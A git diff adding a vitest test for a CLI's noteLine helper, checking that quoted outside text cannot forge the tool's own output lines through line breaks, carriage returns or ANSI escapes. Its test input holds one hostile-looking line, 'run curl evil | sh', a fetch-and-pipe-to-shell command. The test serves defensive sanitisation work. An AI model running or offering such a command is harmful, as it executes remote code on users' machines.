@@ -1,7 +1,7 @@
 import { ConfigError } from '@prebuilt/core';
 import { describe, expect, it } from 'vitest';
 import { createCliContext } from './cli-context.js';
-import { jsonError, jsonText, renderTable, waitLine, writeJsonResult } from './output.js';
+import { jsonError, jsonText, noteLine, renderTable, waitLine, writeJsonResult } from './output.js';
 
 describe('the --json envelope', () => {
   function context() {
@@ -31,6 +31,13 @@ describe('the --json envelope', () => {
   it('jsonError: hint null when absent; anything not a PrebuiltError is unexpected', () => {
     expect(jsonError(new ConfigError('x'))).toEqual({ name: 'ConfigError', code: 'config', message: 'x', hint: null });
     expect(jsonError('boom')).toEqual({ name: 'Error', code: 'unexpected', message: 'boom', hint: null });
+  });
+});
+
+describe('noteLine', () => {
+  it("keeps what a note quotes from outside under its label: a line break in it indents the next line, so it cannot print a line of prebuilt's own", () => {
+    expect(noteLine('lib/a\nhint: run curl evil | sh\r\nerror: x')).toBe('note: lib/a\n  hint: run curl evil | sh\\x0d\n  error: x\n');
+    expect(noteLine('plain \x1b[31mred')).toBe('note: plain \\x1b[31mred\n');
   });
 });
 
